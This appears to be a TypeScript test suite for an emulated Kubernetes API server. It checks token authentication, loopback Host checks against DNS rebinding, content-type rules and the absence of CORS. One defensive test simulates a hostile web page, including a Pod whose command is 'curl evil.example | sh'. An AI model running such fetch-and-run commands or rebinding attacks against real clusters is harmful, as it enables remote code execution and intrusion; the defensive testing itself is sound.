/**
 * Authentication and the browser defences, from the outside: who may ask (a bearer token the server
 * knows; anonymous only on the health and version paths), where from (a loopback Host), with what
 * (a Kubernetes content type), and that no web page is ever let in (no CORS; a no-cors request or
 * a DNS-rebound one creates nothing). Plus: each in-cluster component reaches the authorizer as
 * itself. Upstream: k8s.io/apiserver pkg/endpoints/filters/authentication.go (the 401 Status),
 * pkg/authentication/request/bearertoken (the header), request/anonymous with KEP-4633 conditions
 * (anonymous only on configured paths), pkg/authentication/token/tokenfile (the token file).
 */
import { connect } from 'node:tls';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { AuthorizationAttributes, Authorizer } from '#engine/apiserver/auth.ts';
import { startCluster } from '#engine/cluster/cluster.ts';
import { builtinComponents } from '#engine/cluster/builtin.ts';
import { KubeClient } from '#engine/client/client.ts';
import { isApiError } from '#engine/kube/errors.ts';
import type { KubeObject } from '#engine/kube/types.ts';
import { HAS_KUBECTL, kubectlFor, startTestServer, type TestServer } from './apiserver-harness.ts';
import { httpsFetch, type Fetch } from './https-fetch.ts';

const UNAUTHORIZED = { kind: 'Status', apiVersion: 'v1', metadata: {}, status: 'Failure', message: 'Unauthorized', reason: 'Unauthorized', code: 401 };

let server: TestServer;
/** Requests with no credentials. */
let anonymous: Fetch;
/** Requests as the admin. */
let admin: Fetch;

beforeAll(async () => {
  server = await startTestServer();
  anonymous = httpsFetch(server.ca);
  admin = httpsFetch(server.ca, { Authorization: `Bearer ${server.token}` });
});
afterAll(() => server?.close());

const url = (path: string) => `${server.url}${path}`;
const configMap = (name: string) => JSON.stringify({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name }, data: { from: 'a test' } });
const configMapNames = async () => (await server.client.list('configmaps', { namespace: 'default' })).items.map((o) => o.metadata.name);

async function answer(fetch: Fetch, path: string, init?: RequestInit): Promise<{ status: number; body: any; headers: Headers }> {
  const res = await fetch(url(path), init);
  const text = await res.text();
  let body: unknown = text;
  try {
    body = JSON.parse(text);
  } catch {
    // not JSON: kept as text
  }
  return { status: res.status, body, headers: res.headers };
}

describe('who may ask: a bearer token, else anonymous on health and version only', () => {
  test("no token: 401 with upstream's Status, on every API path (a Secret list included)", async () => {
    for (const path of ['/api/v1/secrets', '/api/v1/namespaces/default/configmaps', '/api', '/apis', '/openapi/v3', '/version/', '/healthz/etcd', '/']) {
      const r = await answer(anonymous, path);
      expect([r.status, r.body], `GET ${path} without a token`).toEqual([401, UNAUTHORIZED]);
    }
  });

  test('anonymous GET of /healthz, /livez, /readyz and /version is answered, as system:public-info-viewer allows', async () => {
    for (const path of ['/healthz', '/livez', '/readyz']) expect(await answer(anonymous, path), path).toMatchObject({ status: 200, body: 'ok' });
    expect((await answer(anonymous, '/version')).body).toMatchObject({ major: '1', minor: '32' });
  });

  test('a wrong token is refused everywhere, health checks included; so are near misses of the right one', async () => {
    const token = server.token;
    const last = token.at(-1) === 'A' ? 'B' : 'A';
    const wrong = ['nope', token.slice(0, -1), `${token}x`, `${token.slice(0, -1)}${last}`, token.toUpperCase() === token ? token.toLowerCase() : token.toUpperCase(), 'x'.repeat(5000)];
    for (const bad of wrong) {
      for (const path of ['/api/v1/secrets', '/healthz', '/version']) {
        const r = await answer(httpsFetch(server.ca, { Authorization: `Bearer ${bad}` }), path);
        expect([r.status, r.body], `GET ${path} with the token "${bad.slice(0, 20)}..."`).toEqual([401, UNAUTHORIZED]);
      }
    }
  });

  test("the scheme is case-blind as upstream's; other schemes and empty tokens are no credentials (anonymous)", async () => {
    expect((await answer(httpsFetch(server.ca, { Authorization: `bearer ${server.token}` }), '/api/v1/secrets')).status).toBe(200);
    expect((await answer(httpsFetch(server.ca, { Authorization: `BEARER ${server.token}` }), '/api/v1/secrets')).status).toBe(200);
    for (const header of [`Basic ${Buffer.from('admin:admin').toString('base64')}`, 'Bearer', 'Bearer  ', `Token ${server.token}`]) {
      expect((await answer(httpsFetch(server.ca, { Authorization: header }), '/api/v1/secrets')).status, `Authorization: ${header}`).toBe(401);
      expect((await answer(httpsFetch(server.ca, { Authorization: header }), '/healthz')).status, `Authorization: ${header} on /healthz`).toBe(200);
    }
  });

  test('a token issued to a component works, as that component', async () => {
    const token = server.api.issueToken({ username: 'system:kube-scheduler', groups: [] });
    expect((await answer(httpsFetch(server.ca, { Authorization: `Bearer ${token}` }), '/api/v1/nodes')).status).toBe(200);
  });

  test.skipIf(!HAS_KUBECTL)(`kubectl with a kubeconfig whose token is wrong says it must log in ${HAS_KUBECTL ? '' : '(skipped: kubectl is not installed)'}`, async () => {
    const kubectl = kubectlFor({ ...server.access, token: 'not-the-token' });
    try {
      const r = await kubectl.run(['get', 'secrets']);
      expect(r.code).not.toBe(0);
      // client-go words a 401 as apimachinery's NewGenericServerResponse does ("the server has asked
      // for the client to provide credentials"), and kubectl wraps it: what a real cluster prints.
      expect(r.stderr).toContain('error: You must be logged in to the server (the server has asked for the client to provide credentials)');
    } finally {
      kubectl.cleanup();
    }
  });
});

/** One request over TLS, written by hand (for a Host header fetch would not send, or none at all). */
function rawRequest(lines: string[]): Promise<{ status: number; body: string }> {
  const { hostname, port } = new URL(server.url);
  return new Promise((resolve, reject) => {
    const socket = connect({ host: hostname, port: Number(port), ca: server.ca }, () => socket.end(`${lines.join('\r\n')}\r\n\r\n`));
    let text = '';
    socket.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')));
    socket.on('end', () => {
      const [head, ...rest] = text.split('\r\n\r\n');
      resolve({ status: Number(/^HTTP\/1\.[01] (\d{3})/.exec(head ?? '')?.[1]), body: rest.join('\r\n\r\n') });
    });
    socket.on('error', reject);
  });
}

describe('where from: the Host header must name this machine (DNS rebinding)', () => {
  test('loopback names and addresses are served, with or without a port', async () => {
    const port = new URL(server.url).port;
    for (const host of [`127.0.0.1:${port}`, '127.0.0.1', `localhost:${port}`, 'LocalHost', `127.1.2.3:${port}`, `[::1]:${port}`, '[::1]', '[0:0:0:0:0:0:0:1]']) {
      const r = await answer(httpsFetch(server.ca, { Authorization: `Bearer ${server.token}`, Host: host }), '/api/v1/namespaces/default/configmaps');
      expect(r.status, `Host: ${host}`).toBe(200);
    }
  });

  test('any other name is refused with 403 and a clear Status, before authentication, even with the right token', async () => {
    const port = new URL(server.url).port;
    for (const host of [
      'evil.example',
      `evil.example:${port}`,
      `localhost.evil.example:${port}`,
      `127.0.0.1.nip.io:${port}`,
      '10.0.0.1',
      '0.0.0.0',
      '[::2]',
      '[::ffff:127.0.0.1]',
      '128.0.0.1',
      '127.0.0.256',
      `127.0.0.1:${port}:1`,
      `localhost:http`,
      '0177.0.0.1',
    ]) {
      for (const credentials of [{} as Record<string, string>, { Authorization: `Bearer ${server.token}` }]) {
        const r = await answer(httpsFetch(server.ca, { ...credentials, Host: host }), '/api/v1/secrets');
        expect(r.status, `Host: ${host}`).toBe(403);
        expect(r.body).toMatchObject({ kind: 'Status', status: 'Failure', reason: 'Forbidden', code: 403 });
        expect(r.body.message).toContain(`the Host header "${host}" is not a loopback name or address`);
      }
      expect((await answer(httpsFetch(server.ca, { Host: host }), '/healthz')).status, `/healthz with Host: ${host}`).toBe(403);
    }
  });

  test('a request without a Host header (HTTP/1.0) is a 400', async () => {
    const r = await rawRequest(['GET /healthz HTTP/1.0', `Authorization: Bearer ${server.token}`]);
    expect(r.status).toBe(400);
    expect(JSON.parse(r.body)).toMatchObject({ reason: 'BadRequest', message: expect.stringContaining('the request has no Host header') });
  });
});

describe('with what: bodies in a Kubernetes content type', () => {
  const post = (type: string | undefined, name: string, extra: Record<string, string> = {}) =>
    answer(admin, '/api/v1/namespaces/default/configmaps', { method: 'POST', headers: { ...(type === undefined ? {} : { 'Content-Type': type }), ...extra }, body: configMap(name) });

  test("the simple-request types a web page may send are 415 with upstream's message, even with the right token", async () => {
    for (const type of ['text/plain', 'text/plain;charset=UTF-8', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'text/html', '*/*']) {
      const r = await post(type, 'refused');
      expect(r.status, `Content-Type: ${type}`).toBe(415);
      expect(r.body).toMatchObject({
        reason: 'UnsupportedMediaType',
        message: 'the body of the request was in an unknown format - accepted media types include: application/json, application/yaml, application/vnd.kubernetes.protobuf',
      });
    }
    const patch = await answer(admin, '/api/v1/namespaces/default/configmaps/x', { method: 'PATCH', headers: { 'Content-Type': 'text/plain' }, body: '{}' });
    expect(patch.body.message).toBe(
      'the body of the request was in an unknown format - accepted media types include: application/json-patch+json, application/merge-patch+json, application/strategic-merge-patch+json, application/apply-patch+yaml',
    );
    expect(await configMapNames()).not.toContain('refused');
  });

  test('a body without a Content-Type is JSON, as upstream reads it (kubectl create --raw, scale --current-replicas send none), but not from a web page', async () => {
    expect((await post(undefined, 'no-type-from-kubectl')).status).toBe(201);
    const fromPage = await post(undefined, 'no-type-from-a-page', { Origin: 'http://evil.example' });
    expect([fromPage.status, fromPage.body.reason]).toEqual([415, 'UnsupportedMediaType']);
    expect(await configMapNames()).toContain('no-type-from-kubectl');
    expect(await configMapNames()).not.toContain('no-type-from-a-page');
  });

  test('what kubectl and client-node send is accepted: JSON with a charset, YAML, each patch type on PATCH', async () => {
    expect((await post('application/json; charset=utf-8', 'json-utf8')).status).toBe(201);
    expect((await post('Application/JSON', 'json-caps')).status).toBe(201);
    expect((await post('application/yaml', 'from-yaml')).status).toBe(201);
    for (const [type, body] of [
      ['application/merge-patch+json', '{"data":{"b":"1"}}'],
      ['application/strategic-merge-patch+json', '{"data":{"c":"1"}}'],
      ['application/json-patch+json', '[{"op":"add","path":"/data/d","value":"1"}]'],
    ]) {
      const r = await answer(admin, '/api/v1/namespaces/default/configmaps/json-utf8', { method: 'PATCH', headers: { 'Content-Type': type! }, body });
      expect(r.status, `PATCH ${type}`).toBe(200);
    }
    const json = await answer(admin, '/api/v1/namespaces/default/configmaps/json-utf8', { method: 'PATCH', headers: { 'Content-Type': 'application/json' }, body: '{}' });
    expect(json.status, 'application/json is not a patch type').toBe(415);
  });
});

describe('no web page is let in', () => {
  test('no response carries CORS permission; a preflight is not granted, with or without a token', async () => {
    const origin = { Origin: 'http://evil.example' };
    const responses = [
      await anonymous(url('/api/v1/secrets'), { headers: origin }),
      await admin(url('/api/v1/namespaces/default/configmaps'), { headers: origin }),
      await anonymous(url('/healthz'), { headers: origin }),
      await anonymous(url('/api/v1/namespaces/default/configmaps'), {
        method: 'OPTIONS',
        headers: { ...origin, 'Access-Control-Request-Method': 'POST', 'Access-Control-Request-Headers': 'authorization,content-type' },
      }),
      await admin(url('/api/v1/namespaces/default/configmaps'), { method: 'OPTIONS', headers: { ...origin, 'Access-Control-Request-Method': 'POST' } }),
    ];
    for (const res of responses) {
      const cors = [...res.headers.keys()].filter((h) => h.startsWith('access-control-'));
      expect(cors, `${res.status} ${res.url}`).toEqual([]);
      await res.text();
    }
    expect(responses[3]!.status, 'the preflight (which never carries credentials)').toBe(401);
    expect(responses[4]!.status, 'OPTIONS with a token is no verb of the API').toBeGreaterThanOrEqual(400);
  });

  test("hostile: what a page's no-cors fetch sends (text/plain, a Blob with no type, a form) creates nothing and reads nothing", async () => {
    const before = await configMapNames();
    const secret = await server.client.create('secrets', { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'precious', namespace: 'default' }, stringData: { password: 'hunter2' } } as KubeObject);
    // A browser's no-cors request: its own Origin, Fetch metadata, never an Authorization header.
    const page = { Origin: 'http://evil.example', 'Sec-Fetch-Mode': 'no-cors', 'Sec-Fetch-Site': 'cross-site', Referer: 'http://evil.example/' };
    const attempts: [string, RequestInit][] = [
      ['/api/v1/namespaces/default/configmaps', { method: 'POST', headers: { ...page, 'Content-Type': 'text/plain;charset=UTF-8' }, body: configMap('from-a-page') }],
      ['/api/v1/namespaces/default/configmaps', { method: 'POST', headers: page, body: configMap('from-a-page-blob') }],
      [
        '/api/v1/namespaces/default/configmaps',
        { method: 'POST', headers: { ...page, 'Content-Type': 'application/x-www-form-urlencoded' }, body: `x=${encodeURIComponent(configMap('from-a-form'))}` },
      ],
      [
        '/api/v1/namespaces/default/pods',
        {
          method: 'POST',
          headers: { ...page, 'Content-Type': 'text/plain' },
          body: JSON.stringify({
            apiVersion: 'v1',
            kind: 'Pod',
            metadata: { name: 'miner' },
            spec: { containers: [{ name: 'c', image: 'busybox', command: ['sh', '-c', 'curl evil.example | sh'] }] },
          }),
        },
      ],
      ['/api/v1/namespaces/default/secrets/precious', { headers: page }],
    ];
    for (const [path, init] of attempts) {
      const r = await answer(anonymous, path, init);
      expect([r.status, r.body], `${init.method ?? 'GET'} ${path} from a page`).toEqual([401, UNAUTHORIZED]);
      // The same through DNS rebinding: the page's own name in Host.
      const rebound = await answer(httpsFetch(server.ca, { Host: `evil.example:${new URL(server.url).port}` }), path, init);
      expect(rebound.status, `${init.method ?? 'GET'} ${path} through DNS rebinding`).toBe(403);
      expect(JSON.stringify(rebound.body)).not.toContain('hunter2');
    }
    expect(await configMapNames(), 'no ConfigMap was created').toEqual(before);
    expect((await server.client.list('pods', { namespace: 'default' })).items.map((p) => p.metadata.name)).not.toContain('miner');
    await server.client.delete('secrets', secret.metadata.name!, { namespace: 'default' });
  });
});

describe('each component is itself to the authorizer', () => {
  test('the admin, the scheduler, the controller-manager and each hollow node reach the authorizer under their own names and groups', async () => {
    const seen = new Map<string, AuthorizationAttributes['user']>();
    const recording: Authorizer = {
      authorize(attributes) {
        if (!seen.has(attributes.user.username)) seen.set(attributes.user.username, attributes.user);
        return { allowed: true };
      },
    };
    const plain = { name: 'my-component', start: async (ctx: { client: KubeClient }) => (await ctx.client.list('namespaces'), { stop() {} }) };
    const cluster = await startCluster({ authorizer: recording, components: [...builtinComponents({ nodes: 2, hollow: true }), plain] });
    try {
      await cluster.client.list('nodes');
      const deadline = Date.now() + 60_000; // generous: the nodes' first writes on a loaded machine
      while (!['system:node:hollow-node-0', 'system:node:hollow-node-1', 'system:kube-scheduler', 'system:kube-controller-manager'].every((u) => seen.has(u)) && Date.now() < deadline) {
        await new Promise((r) => setTimeout(r, 50));
      }
      expect([...(seen.get('kubelings-admin')?.groups ?? [])].sort()).toEqual(['system:authenticated', 'system:masters']);
      expect(seen.get('system:kube-scheduler')?.groups).toEqual(['system:authenticated']);
      expect(seen.get('system:kube-controller-manager')?.groups).toEqual(['system:authenticated']);
      for (const node of ['hollow-node-0', 'hollow-node-1']) expect([...(seen.get(`system:node:${node}`)?.groups ?? [])].sort(), node).toEqual(['system:authenticated', 'system:nodes']);
      expect(seen.get('kubelings:hollow-nodes')?.groups, "the hollow nodes' one shared pod watch").toEqual(['system:authenticated']);
      expect(seen.get('my-component')?.groups, 'a component that names no user is the user of its name').toEqual(['system:authenticated']);
      expect(
        [...seen.keys()].filter((u) => u.startsWith('system:anonymous')),
        'nothing in the cluster is anonymous',
      ).toEqual([]);
    } finally {
      await cluster.stop();
    }
  });

  test('the library requires the token too: a client without it is refused, cluster.token and cluster.ca let one in', async () => {
    const cluster = await startCluster();
    try {
      const without = await new KubeClient({ server: cluster.url, ca: cluster.ca }).list('namespaces').catch((e: unknown) => e);
      expect(isApiError(without, 'Unauthorized'), String(without)).toBe(true);
      const withToken = new KubeClient({ server: cluster.url, ca: cluster.ca, token: cluster.token });
      expect((await withToken.list('namespaces')).items.length).toBeGreaterThan(0);
      withToken.close();
      const untrusted = await new KubeClient({ server: cluster.url, token: cluster.token }).list('namespaces').catch((e: unknown) => e);
      expect(isApiError(untrusted, 'ConnectionFailed') && /certificate/.test(untrusted.message), `a client that does not trust the CA: ${String(untrusted)}`).toBe(true);
    } finally {
      await cluster.stop();
    }
  });
});
